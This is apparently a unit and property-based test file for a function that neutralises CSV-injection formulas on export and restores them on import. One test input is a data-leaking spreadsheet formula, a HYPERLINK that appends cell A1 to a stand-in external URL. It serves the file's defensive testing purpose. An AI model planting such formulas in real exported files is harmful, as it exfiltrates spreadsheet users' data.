import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { neutralised, restored } from '../../src/domain/csv-injection.ts';

const FORMULA_START = ['=', '+', '-', '@', '\t', '\r'];

describe('formulas: a CSV export neutralises cells a spreadsheet would run, an import restores them', () => {
  it("puts a ' before each cell OWASP lists as a formula, and before nothing else", () => {
    expect(neutralised('=HYPERLINK("http://x.example/?"&A1,"click")')).toBe(
      `'=HYPERLINK("http://x.example/?"&A1,"click")`,
    );
    expect(neutralised('+1+1')).toBe("'+1+1");
    expect(neutralised('@SUM(1)')).toBe("'@SUM(1)");
    expect(neutralised('-1+2')).toBe("'-1+2");
    expect(neutralised('\tcmd')).toBe("'\tcmd");
    expect(neutralised('\rcmd')).toBe("'\rcmd");
    // A number as JSON writes it is no formula: a negative number stays a number in a spreadsheet.
    for (const number of ['-12', '-0.5', '-1e+21', '12', '0']) expect(neutralised(number), number).toBe(number);
    // A cell already starting with ' before a formula character gets one more, so it comes back whole.
    expect(neutralised("'=1")).toBe("''=1");
    for (const plain of ['', "'", "'x", 'a=b', ' =1', '007', '東京 🛫', 'x\n=y'])
      expect(neutralised(plain), plain).toBe(plain);
  });

  it("takes one ' off a cell that starts with 's and a formula character", () => {
    expect(restored("'=1+1")).toBe('=1+1');
    expect(restored("''@x")).toBe("'@x");
    expect(restored("'x")).toBe("'x");
    expect(restored("'")).toBe("'");
    expect(restored('=1+1')).toBe('=1+1');
  });

  it('restores every string an export neutralised, exactly, and leaves no cell that a spreadsheet runs', () => {
    const text = fc.string({ unit: fc.constantFrom("'", 'a', '1', '.', 'e', ' ', ...FORMULA_START), maxLength: 8 });
    fc.assert(
      fc.property(fc.oneof(text, fc.string()), (value) => {
        const cell = neutralised(value);
        expect(restored(cell)).toBe(value);
        const runs = FORMULA_START.includes(cell[0] ?? '') && !/^-?\d+(\.\d+)?([eE][+-]?\d+)?$/.test(cell);
        expect(runs).toBe(false);
      }),
      { numRuns: 5000 },
    );
  });
});
